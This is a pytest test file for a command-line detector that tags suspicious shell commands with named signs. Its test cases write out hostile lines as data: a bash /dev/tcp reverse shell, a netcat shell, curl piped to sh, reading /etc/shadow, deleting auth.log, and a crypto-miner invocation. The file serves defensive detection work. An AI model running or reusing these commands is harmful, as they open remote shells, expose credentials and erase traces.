from __future__ import annotations

import polars as pl
import pytest

from vedette.features.command_decode import decode
from vedette.features.command_look import LOOK_SIGNS
from vedette.features.sign import signs_of


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("whoami /all", {"who_am_i", "my_rights"}),
        ('net group "Domain Admins" /domain', {"domain_groups"}),
        ("nltest /dclist:corp", {"domain_trusts"}),
        ("ipconfig /flushdns", set()),
        ("bash -i >& /dev/tcp/192.0.2.7/443 0>&1", {"dev_tcp", "bash_interactive"}),
        ("nc -zv 10.0.0.1 22", set()),
        ("nc 192.0.2.7 443 -e /bin/sh", {"netcat_shell"}),
        ("echo done >> /var/log/syslog", set()),
        ("rm -f /var/log/auth.log", {"unix_traces"}),
        ("cat /etc/os-release", {"unix_look"}),
        ("cat /etc/shadow", {"shadow_file"}),
        ("/var/x/xmrig -o stratum+tcp://pool.example:3333", {"miner"}),
        ("curl -s http://192.0.2.7/x.sh | sh", {"fetch_pipe", "fetch_address"}),
        ("systemctl restart nginx", set()),
        ("docker run --rm alpine echo hi", set()),
    ],
)
def test_lines_and_their_signs(line: str, names: set[str]) -> None:
    held = signs_of(decode(pl.Series([line])), LOOK_SIGNS)[0]
    assert {LOOK_SIGNS[i].name for i in held} == names
